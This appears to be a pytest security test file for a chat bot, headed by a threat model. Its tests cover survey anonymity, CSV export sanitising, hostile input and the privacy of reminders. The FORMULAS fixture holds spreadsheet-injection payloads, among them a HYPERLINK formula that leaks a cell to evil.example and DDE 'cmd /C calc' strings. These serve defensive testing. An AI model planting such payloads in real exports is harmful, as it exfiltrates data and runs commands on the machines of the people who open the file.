"""The threat model, and the tests that hold the bot to it.

Who attacks:

- **a member**: someone the bot answers (any Slack workspace member, Matrix user or console user), who types
  anything into any command, form or survey answer;
- **a non-member in a shared room**: someone who reads the channel or room where others talk to the bot;
- **a member who reshapes a room**: invites people into a room that was theirs and the bot's, leaves, rejects
  or is kicked from a DM, or signs in on a device (or asks for keys from another user's device);
- **anyone who can reach the HTTP port**: sends any request to ``/slack/events``, ``/healthz``, ``/metrics``.

What they must never get, and where that is tested:

- **anonymous answers linked to people**: tests/test_survey_anonymity.py (storage, replies, logs), here (the
  anonymous export applies the per-question minimum group size and drops small groups of partial rows;
  third-party loggers never print bodies or user ids), tests/matrix/ (private replies in shared rooms);
- **other users' private replies**: tests/slack/test_commands.py and tests/slack/test_survey_form.py
  (ephemeral and DM answers), tests/matrix/ (private replies go to the DM);
- **a Matrix room taken for a DM**: tests/matrix/test_dm_privacy.py (a room Alice made with the bot that
  grew to four members, and a room of three that dropped to two, get no one's `reminders`, `survey list`,
  anonymous survey invitation or one-question-at-a-time dialogue, only a pointer naming nothing; unprefixed
  chatter there is not answered; an anonymous survey's answers typed there are warned about and redacted
  where the bot may);
- **private messages into a dead Matrix DM, or endless new rooms**: tests/matrix/test_dm_privacy.py (a DM the
  user rejected, left or was kicked from is replaced at the next private send; DMs only for users sharing a
  room with the bot, a bounded number an hour; what reached no one is not counted sent);
- **encrypted DM history on someone else's device**: tests/matrix/test_key_sharing.py (the DM user's new
  device gets the room key of an earlier message, unasked and on request; another user's device that asks
  for it gets nothing);
- **secrets** (tokens, signing secret, database password, the survey key): tests/test_secrets.py,
  tests/test_cli.py (a bad database URL is reported without the URL or a traceback);
- **the ability to hang or crash the bot**: tests/test_hostile_input.py and tests/test_hostile_slack.py
  (generated input), tests/test_recurrence.py (hostile schedules), here (deeply nested YAML, NUL characters,
  megabytes of echoed text, terminal escape sequences, many first commands at once), tests/slack/
  test_hostile_requests.py (malformed timestamps and payloads);
- **spreadsheet formulas**: here (every cell of the CSV export read back with the csv module);
- **forged actions**: tests/test_authorization.py (admin commands refused to others),
  tests/slack/test_security.py (forged, stale and replayed requests), tests/slack/test_hostile_requests.py
  (markup in user text never becomes a mention, broadcast or link; a slash command delivered twice runs once);
- **a reply read by the wrong people** (issue 18): one rule in the core says which replies are private
  (`handlers/visibility.py`): a person's reminders (the confirmation too), surveys, answers and the survey
  dialogue, refusals, and admin reports naming inactive members (`participation` and its chart, "which
  members have gone quiet?", `survey status`, the exports): here (each typed in a shared place),
  tests/test_visibility.py (each reply kind, the loopback platform's pointer that names nothing),
  tests/slack/test_privacy.py (a DM between two people is not the user's DM with the bot: only ephemeral
  replies, no survey dialogue; participation ephemeral in a channel, its chart in the admin's DM);
- **the Slack ack starved by unsigned garbage** (issue 18): tests/slack/test_unsigned.py (the signature is
  checked before the body is parsed: unsigned bodies get a bare 401, a signed body nested 100,000 deep a
  400, a signed `/foc help` is acked within 3 s while 32 unsigned 1 MB bodies arrive; the figures:
  `bench/slack.py --flood`);
- **the bot aimed at other people** (issue 18 item 3): here (reminders to places and people the sender does
  not share, on another platform, over the quotas; a refusal about someone else's reminder, survey or
  check-in names nobody; whoever a reminder reaches can stop it), tests/slack/test_personal_reminders.py
  (conversations.members decides, the sender is named by Slack id, the Stop button),
  tests/matrix/test_reaction_stop.py (on Synapse: 🛑 ❌ ✋ on the delivered reminder stop it as whoever
  reacted, the person reminded in their DM or a member of the room reminded; a reaction from another room
  or meaning nothing changes nothing), tests/matrix/test_reminder_targets.py (a room version 12 id is a
  target for the room's members only), tests/test_personal_reminders.py (one user's flood waits behind
  everyone else's; every reminder due in the same second is sent once);
- **ids, dates and zones that crash** (issue 18 item 6): here (each of the issue's crashes, east of UTC),
  tests/test_ids.py (one id parser, long text refused before storage and echoed short, on SQLite and
  PostgreSQL), tests/test_reminder_phrases.py (zones through schedules/zones.py),
  tests/test_survey_deadlines.py (deadlines within 1970-2200), tests/test_date_window.py (every typed date
  within 1970-2200, where the bot's zone is east of UTC);
- **check-ins answered by the wrong person** (issue 18 item 7): tests/test_checkins.py (a row per country of
  a focal point; a removed focal point can no longer answer, the new one can), tests/slack/
  test_checkin_form.py (a focal point of two countries picks the country in the form; each keeps its own
  answers).
"""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest

from handlers.core import Place, Status
from handlers.text import safe_text
from tests.support.clock import FakeClock
from tests.support.dialogue import Dialogue, open_dialogue
from tests.support.surveys import FULL_ANSWERS, open_survey, rows

START = datetime(2027, 1, 10, 9, 0, tzinfo=UTC)
FORMULAS = (
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
PLAIN_NUMBER = re.compile(r"^-?\d+(?:[.,]\d+)?$")


@pytest.fixture(autouse=True)
def _january(bot: Dialogue) -> None:
    bot.clock.set(START)


def _cells(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


async def test_the_csv_export_has_no_formula_cell(bot: Dialogue) -> None:
    questions = ", ".join(f"{{text: Say {n}, type: text, required: false}}" for n in range(1, 8))
    made = await bot.say(f"survey import {{title: '=1+1 Links', questions: [{questions}]}}")
    assert made.ok, made.text
    survey_id = made.data["survey"]
    assert (await bot.say(f"survey open {survey_id} to=alice,bob")).ok
    answers = " ".join(f'{n}="{text}"' for n, text in enumerate(FORMULAS, 1))
    assert (await bot.say(f"survey answer {survey_id} {answers} 7=-42", as_="bob")).ok
    assert (await bot.say(f"survey close {survey_id}")).ok

    export = await bot.say(f"survey export {survey_id}")

    table = _cells(export.files()[0].content)
    assert len(table) == 2, table
    for cell in (c for row in table for c in row):
        assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
        assert not cell.startswith("-") or PLAIN_NUMBER.match(cell), cell
    row = dict(zip(table[0], table[1], strict=True))
    first = next(value for head, value in row.items() if head.startswith("Q1 "))
    assert "'=HYPERLINK" in first and table[1][-1] == "-42"  # still readable: the text, and a plain number


async def test_the_anonymous_export_hides_small_groups(bot: Dialogue) -> None:
    survey_id = await open_survey(bot, "to=alice,bob,carol,dmitri anonymous")
    for person in ("alice", "bob", "carol"):
        assert (await bot.say(f"survey answer {survey_id} {FULL_ANSWERS}", as_=person)).ok
    assert (await bot.say(f'survey answer {survey_id} 15="Only I said this"', as_="carol")).ok
    assert (await bot.say(f'survey answer {survey_id} 6=3 2="Dmitri alone"', as_="dmitri")).ok
    assert (await bot.say(f"survey close {survey_id}")).ok

    export = await bot.say(f"survey export {survey_id}")

    content = export.files()[0].content.decode("utf-8-sig")
    table = _cells(export.files()[0].content)
    assert len(table) == 4 and all(row[0] == "yes" for row in table[1:])  # the one partial row is left out
    assert "Only I said this" not in content and "Dmitri alone" not in content
    q15 = next(i for i, name in enumerate(table[0]) if name.startswith("Q15"))
    assert [row[q15] for row in table[1:]] == [""] * 3
    assert "hidden" in table[0][q15]
    assert "partial" in export.text


async def test_partial_rows_are_exported_when_they_are_a_group(bot: Dialogue) -> None:
    people = ("alice", "bob", "carol", "dmitri", "erin", "frank")
    survey_id = await open_survey(bot, "to=" + ",".join(people) + " anonymous")
    for person in people[:3]:
        assert (await bot.say(f"survey answer {survey_id} {FULL_ANSWERS}", as_=person)).ok
    for person in people[3:]:
        assert (await bot.say(f"survey answer {survey_id} 6=3", as_=person)).ok
    assert (await bot.say(f"survey close {survey_id}")).ok

    table = _cells((await bot.say(f"survey export {survey_id}")).files()[0].content)

    assert sorted(row[0] for row in table[1:]) == ["no"] * 3 + ["yes"] * 3


def test_safe_text_strips_controls_and_caps() -> None:
    hostile = "a\x1b[2J\x1b]0;pwned\x07b\x00c\x7fd\u0085e\r\nf\tg"
    assert safe_text(hostile) == "abcde\nf\tg"
    assert safe_text("x" * 10_000, limit=300) == "x" * 299 + "…"
    assert safe_text("line\nnext", keep_newlines=False) == "line next"


async def test_echoed_text_is_capped_and_stripped(bot: Dialogue, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level("INFO")
    escape = "\x1b]0;owned\x07\x1b[31m"
    huge = "y" * 50_000

    for line in (f"{escape}{huge}", f"activity 3B.3 nonsense{escape}{huge}", f"tz {huge}"):
        reply = await bot.say(line)

        # the first line is no command: a question now (issue 11), answered without echoing it whole
        assert reply.status is not Status.OK or line.startswith(escape)
        assert len(reply.text) < 2_000, (line[:20], len(reply.text))
        assert "\x1b" not in reply.text and "\x07" not in reply.text
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert len(logged) < 20_000 and "\x1b" not in logged


async def test_a_nul_character_is_refused_and_changes_nothing(bot: Dialogue) -> None:
    for line in (
        "activity 3B.3 note before\x00after",
        "survey import {title: 'A\x00B', questions: [{text: Q, type: text}]}",
        'meeting new "Call\x00" rrule="FREQ=WEEKLY" start=2027-02-02 at=15:00 tz=Europe/Zurich',
    ):
        reply = await bot.say(line)
        assert reply.status is Status.USAGE and "NUL" in reply.text, reply.text
    activity = await bot.app.services.knowledge.activity("3B.3")
    assert activity is not None and activity.notes == ()
    assert await rows(bot, "SELECT id FROM surveys") == []
    assert await rows(bot, "SELECT id FROM meeting_series") == []


DEEP_DEFINITIONS = [
    "{title: Deep, questions: " + "[" * 5_000 + "]" * 5_000 + "}",
    "{title: Deep, questions: [" + "{a: " * 5_000 + "1" + "}" * 5_000 + "]}",
    "title: Deep\nquestions:\n" + "- " * 5_000 + "x",
]


async def test_a_deeply_nested_survey_import_gets_a_clear_reply(bot: Dialogue) -> None:
    for n, definition in enumerate(
        DEEP_DEFINITIONS
    ):  # one app for the table: each is checked to save nothing
        reply = await bot.say(f"survey import {definition}")

        assert reply.status is Status.USAGE, (n, reply.text[:200])
        assert "nested" in reply.text and "nothing was saved" in reply.text, (n, reply.text[:200])
        assert await rows(bot, "SELECT id FROM surveys") == [], n


async def test_a_huge_survey_import_gets_a_clear_reply(bot: Dialogue) -> None:
    reply = await bot.say(
        "survey import {title: Big, questions: [" + "{text: Question, type: text}, " * 20_000 + "]}"
    )

    assert reply.status is Status.USAGE and "too long" in reply.text, reply.text[:200]
    assert await rows(bot, "SELECT id FROM surveys") == []


SHARED_ROOM = Place("console", "lobby", is_direct=False)


@pytest.mark.parametrize(
    ("text", "as_"),
    [
        ("remind me in 2 minutes to call Accra", "bob"),
        ("reminders", "bob"),
        ("survey list", "bob"),
        ("which surveys do I still have to answer?", "bob"),
        ("participation", "admin"),
        ("which members have gone quiet?", "admin"),
        ("participation", "bob"),  # the refusal too
    ],
)
async def test_a_shared_room_never_reads_a_private_reply(bot: Dialogue, text: str, as_: str) -> None:
    reply = await bot.say(text, as_=as_, place=SHARED_ROOM)

    assert reply.private, (text, reply.text)


async def test_reminders_cannot_be_aimed_at_places_or_people_the_sender_does_not_share(bot: Dialogue) -> None:
    bot.place_people("console:console", "mallory", "alice")
    bot.place_people("console:board", "alice", "bob")  # mallory is not in it
    for line, says in [
        ("remind #board in 2 minutes to click evil.example", "only when you are in it"),
        ("remind #nowhere in 2 minutes to x", "only when you are in it"),  # no roster lists it
        ("remind console:bob in 2 minutes to x", "from a channel or room you are both in"),
        ("remind @bob in 2 minutes to x", "from a channel or room you are both in"),  # not here with mallory
        ("remind slack:U123 in 2 minutes to x", "only on the platform you type on"),
        ("remind matrix:@bob:example.org in 2 minutes to x", "only on the platform you type on"),
        ("remind slack:D0OTHERDM in 2 minutes to x", "only on the platform you type on"),
        ("remind !room:example.org in 2 minutes to x", "only when you are in it"),
    ]:
        await bot.refuses(
            line, status=Status.ERROR, words=says, as_="mallory", unchanged=("personal_reminders",)
        )
    assert (await bot.say("remind @alice in 2 minutes to x", as_="mallory")).ok  # they share this place
    assert (await bot.say("remind #board in 2 minutes to x")).ok  # an admin may remind anywhere


async def test_reminder_quotas_hold_a_flood(database_url: str) -> None:
    async with open_dialogue(
        database_url, FakeClock(START), reminders_per_user=5, reminders_per_minute=3
    ) as bot:
        for n in range(3):
            assert (await bot.say(f"remind me in 1 hour to x{n}", as_="mallory")).ok
        await bot.refuses(
            "remind me in 1 hour to x", status=Status.ERROR, words="in the last minute", as_="mallory"
        )
        bot.clock.set(START + timedelta(minutes=2))
        for n in range(2):
            assert (await bot.say(f"remind me in 1 hour to y{n}", as_="mallory")).ok
        bot.clock.set(START + timedelta(minutes=4))
        await bot.refuses(
            "remind me in 1 hour to x", status=Status.ERROR, words="5 active reminders", as_="mallory"
        )
        assert (await bot.say("remind me in 1 hour to x", as_="alice")).ok  # a quota is per person
        assert (await bot.say("reminder cancel 1", as_="mallory")).ok  # room again
        assert (await bot.say("remind me in 1 hour to z", as_="mallory")).ok


async def test_a_refusal_about_someone_elses_reminder_names_nobody(bot: Dialogue) -> None:
    bot.place_people("console:console", "kadri", "ana")
    assert (await bot.say("remind me in 1 hour to call Accra", as_="kadri")).ok
    for line in ("reminder snooze 1 10m", "reminder cancel 1", "reminder stop 1"):
        mine = await bot.say(line.replace("1", "99", 1), as_="mallory")  # no such reminder
        theirs = await bot.say(line, as_="mallory")  # someone else's: the same answer
        assert theirs.text == mine.text.replace("99", "1") and "kadri" not in theirs.text
    assert (await bot.say("remind @ana every Monday at 9:00 to report", as_="kadri")).ok
    assert (await bot.say("reminder cancel 2", as_="ana")).status is Status.ERROR  # the creator's to cancel
    assert (await bot.say("reminder stop 2", as_="ana")).ok  # but whoever it reminds can stop it
    assert "no reminders" in (await bot.say("reminders", as_="ana")).text


ISSUE_18 = [
    "reminder cancel ²",
    "reminder cancel 99999999999999999999",  # past SQLite's integer
    "reminder cancel 2147483648",  # past PostgreSQL's integer
    "reminder cancel " + "9" * 65_536,
    "remind console:" + "k" * 300 + " in 2 minutes to x",  # past the varchar(255) on PostgreSQL
    "remind me tomorrow at 9 America/Argentina to x",  # a folder of zones
    "remind me tomorrow at 9 posix/Europe/Berlin to x",
    "remind me tomorrow at 9 right/UTC to x",
    "focal " + "x" * (1 << 20) + " add x",  # a megabyte, not echoed back
    "survey open 1 to=alice deadline=9999-12-31",
    "participation since 0001-01-01",
]


async def test_none_of_the_issue_18_crashes_fails_on_my_side(bot: Dialogue) -> None:
    """Issue 18's low findings, typed as an attacker would, east of UTC: a short refusal each, nothing
    stored, never "failed on my side" (SQLite and PostgreSQL). One app for the table: each line is checked
    to store nothing."""
    await bot.say("survey new support-unit")
    await bot.say("tz Pacific/Kiritimati")
    for text in ISSUE_18:
        reply = await bot.say(text)
        assert reply.status in (Status.USAGE, Status.ERROR), (text[:80], reply.text[:200])
        assert "failed on my side" not in reply.text and len(reply.text) < 1000, (text[:80], reply.text[:200])
        assert await bot.count("personal_reminders") == 0 and await bot.count("focal_points") == 0, text[:80]
        for follow in ("survey list", "reminders"):
            assert "failed on my side" not in (await bot.say(follow)).text, text[:80]


async def test_a_refusal_about_someone_elses_survey_or_check_in_names_nobody(bot: Dialogue) -> None:
    await bot.say("focal Japan add console:kadri")
    assert (await bot.say("checkin new quarterly-update to=Japan")).ok
    await bot.say("survey new support-unit")
    assert (await bot.say("survey open 1 to=kadri")).ok
    for line in ("survey answer 1 1=1", "checkin answer 1 1=1", "checkin answer 1", "survey results 1"):
        reply = await bot.say(line, as_="mallory")
        assert not reply.ok and "kadri" not in reply.text.lower(), (line, reply.text)
